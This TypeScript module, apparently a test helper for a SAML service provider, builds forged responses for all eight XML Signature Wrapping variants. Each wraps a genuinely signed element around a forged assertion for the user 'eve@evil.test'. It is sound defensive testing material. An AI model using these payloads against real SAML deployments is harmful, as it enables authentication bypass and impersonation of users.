import { createAssertion, createResponse } from './idp.ts';

/** Signature wrapping: what an attacker without key can build around one genuinely signed element. The forged user is `eve`. */
export type WrappingVariant = 'xsw1' | 'xsw2' | 'xsw3' | 'xsw4' | 'xsw5' | 'xsw6' | 'xsw7' | 'xsw8';

export const wrappingVariants: readonly WrappingVariant[] = [
  'xsw1',
  'xsw2',
  'xsw3',
  'xsw4',
  'xsw5',
  'xsw6',
  'xsw7',
  'xsw8',
];

/** Builds one of the eight variants ("On Breaking SAML", USENIX Security 2012). */
export function createWrapped(variant: WrappingVariant): string {
  if (variant === 'xsw1' || variant === 'xsw2') return wrapResponse(variant);
  const genuine = createResponse();
  const assertion = /<saml:Assertion .*<\/saml:Assertion>/.exec(genuine)?.[0] ?? '';
  const signature = /<ds:Signature .*<\/ds:Signature>/.exec(assertion)?.[0] ?? '';
  const bare = assertion.replace(signature, '');
  const forged = createAssertion({ assertionId: '_forged', nameId: 'eve@evil.test' });
  const place = (content: string): string => genuine.replace(assertion, content);
  const signedForged = (inside: string): string => forged.replace('</saml:Issuer>', `</saml:Issuer>${inside}`);
  switch (variant) {
    case 'xsw3':
      return place(forged + assertion);
    case 'xsw4':
      return place(forged.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`));
    case 'xsw5':
      return place(signedForged(signature)).replace('</samlp:Response>', `${bare}</samlp:Response>`);
    case 'xsw6':
      return place(signedForged(signature.replace('</ds:Signature>', `${bare}</ds:Signature>`)));
    case 'xsw7':
      return place(`<samlp:Extensions>${forged.replace('_forged', '_assertion')}</samlp:Extensions>${assertion}`);
    case 'xsw8':
      return place(signedForged(signature.replace('</ds:Signature>', `<ds:Object>${bare}</ds:Object></ds:Signature>`)));
  }
}

function wrapResponse(variant: 'xsw1' | 'xsw2'): string {
  const genuine = createResponse({ sign: 'response' });
  const signature = /<ds:Signature .*?<\/ds:Signature>/.exec(genuine)?.[0] ?? '';
  const bare = genuine.replace(signature, '');
  const forged = createResponse({ sign: 'none', responseId: '_forged', nameId: 'eve@evil.test' });
  const inside =
    variant === 'xsw1'
      ? signature.replace('</ds:Signature>', `<ds:Object>${bare}</ds:Object></ds:Signature>`)
      : bare + signature;
  return forged.replace('</saml:Issuer>', `</saml:Issuer>${inside}`);
}
